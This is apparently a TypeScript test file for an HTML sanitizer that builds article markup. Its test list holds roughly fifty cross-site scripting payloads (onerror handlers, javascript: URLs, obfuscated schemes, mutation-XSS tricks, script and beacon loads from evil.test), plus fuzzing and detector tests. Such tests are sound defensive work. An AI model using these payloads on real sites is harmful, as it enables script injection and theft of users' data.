import * as fc from "fast-check";
import { expect, it } from "vitest";
import { listViolations } from "#features/capture/server/testing/list-violations.ts";
import { writeHtml } from "#server/article/write-html.ts";
import { parsePage } from "../html/page-dom.ts";
import { buildArticle } from "./build-article.ts";

const base = "https://example.org/notes/page";
/** The markup of the document of a page. */
const write = (html: string) => writeHtml(buildArticle(parsePage(html, base).document.body, base));

const attacks = [
  `<script>alert(1)</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="javascript:alert(1)">`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<img srcset="https://evil.test/a 1x" src="https://evil.test/b">`,
  `<img data-src="javascript:alert(1)">`,
  `<img """><script>alert(1)</script>">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="java&#x09;script:alert(1)">x</a>`,
  `<a href="&#106;&#97;vascript:alert(1)">x</a>`,
  `<a href=" \u0001javascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="//evil.test" onclick=alert(1) style="position:fixed" id=x class=y target=_top>x</a>`,
  `<a href="mailto:a@b.test?body=<script>">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="blob:https://example.org/1">x</a>`,
  `<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert(1)">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea></textarea><img src=x onerror=alert(1)></textarea>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<style>@import "https://evil.test/x.css"; p{background:url(https://evil.test)}</style>`,
  `<p style="background:url(https://evil.test/beacon)">x</p>`,
  `<link rel=stylesheet href=https://evil.test/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.test">`,
  `<base href="https://evil.test/">`,
  `<iframe src="https://evil.test"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.test/x.swf"><embed src="https://evil.test/x.swf"></object>`,
  `<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">go</button></form>`,
  `<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video><audio src=https://evil.test/a></audio>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<div onmouseover="alert(1)" onpointerenter=alert(1)>x</div>`,
  `<table background="https://evil.test/b"><td background=x>x</td></table>`,
  `<template><script>alert(1)</script></template>`,
  `<x-widget onfocus=alert(1) tabindex=1 autofocus>x</x-widget>`,
  `<p lang="en\\" onclick=alert(1)">x</p>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<plaintext><img src=x onerror=alert(1)>`,
  `<p\u0000><i\u0000mg src=x onerror=alert(1)>`,
  `<b><img src=x:alert(1) onerror=eval(src)>`,
];

it.each(attacks)("leaves only allowed markup of %s", (attack) => {
  const clean = write(attack);
  expect(listViolations(clean)).toEqual([]);
  expect(clean).not.toMatch(
    /<[^>]* (on\w+|style|src|srcset|class|id(?!="text-))=|javascript:|vbscript:|data:|<(script|svg|iframe)/i,
  );
});

it("outputs only allowed markup, whatever the input", () => {
  const tag = fc.constantFrom(
    ..."p section h2 blockquote ul ol li dl dt dd table caption tr th td figure figcaption img a b q sub sup pre code abbr br hr ruby rt math mi mtext mfrac".split(
      " ",
    ),
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "noscript",
    "textarea",
    "x-a",
    "h1",
    "form",
  );
  const name = fc.constantFrom(
    ..."dir lang id href title data-language data-src alt width height start value colspan display alttext linethickness".split(
      " ",
    ),
    "src",
    "srcset",
    "style",
    "onerror",
    "onclick",
    "class",
    "id",
    "xlink:href",
    "data-x",
    "formaction",
  );
  const value = fc.oneof(
    fc.string({ maxLength: 12 }),
    fc.constantFrom(
      "javascript:alert(1)",
      "https://evil.test/x",
      "/relative",
      "data:text/html,x",
      '"><img src=x onerror=1>',
      "mailto:a@b.test",
    ),
  );
  const quote = fc.constantFrom('"', "'", "");
  const piece = fc.oneof(
    fc.string({ maxLength: 20 }),
    fc.constantFrom(
      "<",
      ">",
      "</",
      "<!--",
      "-->",
      "]]>",
      "&lt;script&gt;",
      "\u0000",
      "<![CDATA[",
      "/>",
    ),
    tag.map((each) => `</${each}>`),
    fc
      .tuple(tag, fc.array(fc.tuple(name, value, quote), { maxLength: 3 }))
      .map(
        ([each, attributes]) =>
          `<${each}${attributes.map(([key, text, mark]) => ` ${key}=${mark}${text}${mark}`).join("")}>`,
      ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
      expect(listViolations(write(pieces.join("")))).toEqual([]);
    }),
    { numRuns: 2_000 },
  );
});

it("listViolations detects forbidden markup", () => {
  const bad = [
    `<script>`,
    `<p onclick="x">`,
    `<img src="x">`,
    `<a href="javascript:1">`,
    `<p <b>`,
    `<a href="https://x.test">`,
    `<p class=x>`,
  ];
  for (const html of bad) expect(listViolations(html)).not.toEqual([]);
});

it.each([
  ["<math><mtext><p>x</p><img src=https://e.test/a.png></mtext></math>", "x"],
  ["<p><mi>x</mi><mtext>y</mtext></p>", "xy"],
  ['<math href="javascript:alert(1)" xlink:href="x" style="x" onclick="x"><mi>x</mi></math>', "x"],
  ['<math><mspace width="expression(1)"></mspace><mi>x</mi></math>', "x"],
])("allows no other markup inside a formula, and no MathML outside: %s", (html, text) => {
  const clean = write(html);
  expect(listViolations(clean)).toEqual([]);
  expect(clean.replace(/<[^>]*>/g, "")).toBe(text);
});

it("is fast on very deep nesting", () => {
  expect(listViolations(write(`${"<div>".repeat(20_000)}x`))).toEqual([]);
});
